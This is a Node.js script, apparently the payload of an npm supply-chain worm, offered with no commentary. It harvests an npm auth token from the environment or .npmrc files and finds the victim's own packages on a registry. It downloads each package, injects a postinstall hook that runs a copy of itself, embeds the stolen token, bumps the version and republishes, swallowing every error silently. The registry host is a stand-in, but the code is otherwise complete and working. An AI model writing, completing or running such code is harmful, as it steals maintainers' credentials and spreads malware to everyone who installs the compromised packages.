'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

const REG = 'registry.npmjs.example';

function token() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  for (const f of [path.join(process.cwd(), '.npmrc'), path.join(os.homedir(), '.npmrc')]) {
    try {
      const m = /_authToken\s*=\s*(\S+)/.exec(fs.readFileSync(f, 'utf8'));
      if (m) return m[1];
    } catch (e) {}
  }
  return null;
}

function get(p, tok) {
  return new Promise((resolve, reject) => {
    https.get({ host: REG, path: p, headers: { authorization: 'Bearer ' + tok, 'npm-command': 'whoami' } }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}

function bump(v) {
  const p = v.split('.');
  p[2] = String(parseInt(p[2], 10) + 1);
  return p.join('.');
}

async function infect(name, tok, tmp) {
  const meta = JSON.parse(await get('/' + name.replace('/', '%2f'), tok));
  const latest = meta['dist-tags'].latest;
  const tgz = await get(new URL(meta.versions[latest].dist.tarball).pathname, tok);
  const dir = fs.mkdtempSync(path.join(tmp, 'p'));
  fs.writeFileSync(path.join(dir, 'p.tgz'), tgz);
  execSync('tar -xzf p.tgz', { cwd: dir, stdio: 'ignore' });
  const root = path.join(dir, 'package');
  const pj = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));
  pj.scripts = pj.scripts || {};
  if (pj.scripts.postinstall === 'node bundle.js') return;
  pj.scripts.postinstall = 'node bundle.js';
  pj.version = bump(pj.version);
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify(pj, null, 2));
  fs.copyFileSync(__filename, path.join(root, 'bundle.js'));
  fs.writeFileSync(path.join(root, '.npmrc'), `//${REG}/:_authToken=${tok}\n`);
  execSync('npm publish --access public --registry https://' + REG + '/', { cwd: root, stdio: 'ignore', timeout: 120000 });
}

(async () => {
  const tok = token();
  if (!tok) return;
  let user;
  try { user = JSON.parse(await get('/-/whoami', tok)).username; } catch (e) {}
  if (!user) {
    try { user = execSync('npm whoami', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) { return; }
  }
  const res = JSON.parse(await get(`/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=20`, tok));
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'nxw'));
  for (const o of res.objects || []) {
    try { await infect(o.package.name, tok, tmp); } catch (e) {}
  }
})().catch(() => {});
